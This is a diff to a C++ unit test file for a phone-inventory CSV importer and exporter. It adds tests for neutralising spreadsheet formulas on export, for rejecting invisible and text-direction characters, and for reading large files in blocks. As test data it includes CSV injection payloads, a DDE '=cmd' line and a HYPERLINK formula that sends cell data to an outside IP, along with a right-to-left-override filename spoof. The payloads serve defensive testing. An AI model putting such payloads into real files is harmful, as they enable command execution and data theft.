@@ -78,6 +78,9 @@ private slots:
     void importNeedsAdministrator();
     void exportImportRoundTrip();
     void exportSelectionToFile();
+    void formulaCellsAreNeutralizedAndRoundTrip();
+    void invisibleCharactersNameRowAndColumn();
+    void fileReadInBlocksGivesTheSamePlan();
     void largeFileIssuesInFileOrder();
     void cancelWhileReading();
     void cancelWhileSaving();
@@ -743,6 +746,151 @@ void TestPhoneImport::exportSelectionToFile()
         PhoneExport::exportToFile(*s, {m_existing.id}, dir.filePath(QStringLiteral("no/such/dir/x.csv")));
     QVERIFY(!bad.ok());
     QCOMPARE(bad.error().code, Error::Code::Io);
+}
+
+void TestPhoneImport::formulaCellsAreNeutralizedAndRoundTrip()
+{
+    // Names a spreadsheet would run, a site and a description starting with one, an E.164 remote
+    // address: the export puts a ' before each, the import takes it off again.
+    Site hq;
+    hq.name = QStringLiteral("@HQ");
+    hq.primarySip = {QStringLiteral("sip.example.com"), 5061, SipTransport::Tls};
+    hq = *s->sites().create(hq);
+    QList<Phone> phones;
+    auto managedPhone = [&](const QString &name, const QByteArray &mac) {
+        Phone p;
+        p.name = name;
+        p.baseSettingsId = m_vvx450.id;
+        p.siteId = m_berlin.id;
+        p.hardwareId = QString::fromLatin1(mac);
+        phones.append(p);
+        return &phones.last();
+    };
+    managedPhone(QStringLiteral("=cmd|' /C calc'!A0"), "0004f2aa0001");
+    managedPhone(QStringLiteral("=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"Click\")"), "0004f2aa0002");
+    managedPhone(QStringLiteral("-Spare-"), "0004f2aa0003")->siteId = hq.id;
+    managedPhone(QStringLiteral("'=already quoted"), "0004f2aa0004")->description = QStringLiteral("=1+1");
+    Phone remote;
+    remote.name = QStringLiteral("+Home office");
+    remote.category = PhoneCategory::Remote;
+    remote.baseSettingsId = m_remote.id;
+    remote.siteId = m_berlin.id;
+    remote.remoteAddress = QStringLiteral("+4930123456");
+    phones.append(remote);
+    QVERIFY(s->phones().saveMany(phones, {}, QStringLiteral("phone.create")).ok());
+    QVERIFY(s->phones().remove({m_existing.id}).ok());
+    const QList<Phone> before = allPhones();
+
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("export.csv"));
+    QVERIFY(PhoneExport::exportAllToFile(*s, path).ok());
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QByteArray exported = file.readAll();
+    const QList<QByteArray> lines = exported.split('\n');
+    QCOMPARE(lines.size(), 7); // header, five phones, the empty rest after the last line end
+    QCOMPARE(
+        lines.at(1),
+        QByteArray("''=already quoted,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:04,,,,'=1+1,\r"));
+    QCOMPARE(lines.at(2), QByteArray("'+Home office,remote,remote,Remote,Berlin,,,'+4930123456,,,\r"));
+    QCOMPARE(lines.at(3), QByteArray("'-Spare-,managed,poly-vvx-450,VVX 450,'@HQ,00:04:F2:AA:00:03,,,,,\r"));
+    QCOMPARE(lines.at(4),
+             QByteArray("'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"Click\"\")\",managed,"
+                        "poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:02,,,,,\r")
+                 .prepend('"'));
+    QCOMPARE(lines.at(5),
+             QByteArray("'=cmd|' /C calc'!A0,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:01,,,,,\r"));
+
+    // Without neutralising (the CLI's --raw), the cells are written as they are.
+    QBuffer raw;
+    raw.open(QIODevice::WriteOnly);
+    Csv::WriteOptions rawOptions;
+    rawOptions.neutralizeFormulas = false;
+    QVERIFY(PhoneExport::write(*s, before, raw, rawOptions).ok());
+    QVERIFY(raw.data().contains("\n=cmd|' /C calc'!A0,managed,"));
+    QVERIFY(raw.data().contains(",+4930123456,"));
+
+    // Imported again: the very same names, site, description and remote address.
+    QList<Id> ids;
+    for (const Phone &p : before)
+        ids.append(p.id);
+    QVERIFY(s->phones().remove(ids).ok());
+    auto plan = PhoneImporter(*s).prepareFile(path, ImportMode::CreateOnly);
+    QVERIFY(plan.ok());
+    QCOMPARE(texts(plan->issues), QStringList());
+    QCOMPARE(plan->preview.at(1).fields.value(0), QStringLiteral("+Home office")); // shown as imported
+    QVERIFY(PhoneImporter(*s).commit(*plan, false).ok());
+    const QList<Phone> after = allPhones();
+    QCOMPARE(after.size(), before.size());
+    for (qsizetype i = 0; i < before.size(); ++i) {
+        QCOMPARE(after[i].name, before[i].name);
+        QCOMPARE(after[i].siteId, before[i].siteId);
+        QCOMPARE(after[i].description, before[i].description);
+        QCOMPARE(after[i].remoteAddress, before[i].remoteAddress);
+    }
+    // A file written by hand or a spreadsheet (no apostrophes) imports as it is: an E.164 number
+    // in a remote phone's row is accepted either way.
+    const ImportPlan plain = prepare(Header + "Remote 2,remote,Remote,Berlin,,,+4930999999,,\n" +
+                                     "Remote 3,remote,Remote,Berlin,,,'+4930888888,,\n");
+    QCOMPARE(texts(plain.issues), QStringList());
+    QCOMPARE(plain.rows.at(0).phone.remoteAddress, QStringLiteral("+4930999999"));
+    QCOMPARE(plain.rows.at(1).phone.remoteAddress, QStringLiteral("+4930888888"));
+}
+
+void TestPhoneImport::invisibleCharactersNameRowAndColumn()
+{
+    const QByteArray data = Header + row(u"Desk \u202Etxt.exe"_qs.toUtf8(), "00:04:f2:00:10:01") +
+        row("Desk 2", "00:04:f2:00:10:02", u",,Front\u200Bdesk,"_qs.toUtf8()) +
+        row("Desk 3", "00:04:f2:00:10:03", u",,,1=line;2=line Al\u2066ice"_qs.toUtf8()) +
+        row(u"\uFEFFDesk 4"_qs.toUtf8(), "00:04:f2:00:10:04") +
+        row(u"\u0645\u06CC\u200C\u062E"_qs.toUtf8(), "00:04:f2:00:10:05"); // Persian: accepted
+    const ImportPlan plan = prepare(data);
+    QCOMPARE(texts(plan.issues),
+             QStringList({u"Line 2, column 1 (name): Name must not contain invisible or text-direction "
+                          "characters (U+202E at character 6)."_qs,
+                          u"Line 3, column 8 (description): Description must not contain invisible or "
+                          "text-direction characters (U+200B at character 6)."_qs,
+                          u"Line 4, column 9 (line_keys): Line key 2: the label must not contain invisible "
+                          "or text-direction characters (U+2066 at character 3)."_qs,
+                          u"Line 5, column 1 (name): Name must not contain invisible or text-direction "
+                          "characters (U+FEFF at character 1)."_qs}));
+    QCOMPARE(plan.rows.size(), 1);
+    QCOMPARE(plan.rows.first().line, 6);
+}
+
+void TestPhoneImport::fileReadInBlocksGivesTheSamePlan()
+{
+    // More than one block of the file (Csv::Reader reads 4 MiB at a time): reading the file gives
+    // exactly the plan of reading the same bytes from memory, problems on both sides of a block
+    // edge included.
+    QByteArray data = manyRows(90000);
+    data += row("Bulk 5", "00:04:f2:ff:ff:01"); // the name is taken on line 7
+    data += row("Broken \"quote", "00:04:f2:ff:ff:02");
+    QVERIFY(data.size() > 4 * 1024 * 1024);
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("big.csv"));
+    {
+        QFile f(path);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        QCOMPARE(f.write(data), data.size());
+    }
+    auto fromFile = PhoneImporter(*s).prepareFile(path, ImportMode::CreateOnly);
+    QVERIFY(fromFile.ok());
+    const ImportPlan fromMemory = prepare(data);
+    QCOMPARE(texts(fromFile->issues), texts(fromMemory.issues));
+    QCOMPARE(
+        texts(fromFile->issues),
+        QStringList({u"Line 90002, column 1 (name): the name \"Bulk 5\" is also used on line 7."_qs,
+                     u"Line 90003, column 1 (name): a quote inside an unquoted field; put the whole field "
+                     "in quotes and write the quote as two quotes (\"\")."_qs}));
+    QVERIFY(fromFile->fatal);
+    QCOMPARE(fromFile->dataRows, 90001);
+    QCOMPARE(fromFile->rows.size(), 90000);
+    for (qsizetype i = 0; i < fromFile->rows.size(); ++i) {
+        QCOMPARE(fromFile->rows.at(i).line, fromMemory.rows.at(i).line);
+        QVERIFY(fromFile->rows.at(i).phone == fromMemory.rows.at(i).phone);
+    }
+    QCOMPARE(fromFile->preview.size(), 100);
 }
 
 void TestPhoneImport::largeFileIssuesInFileOrder()
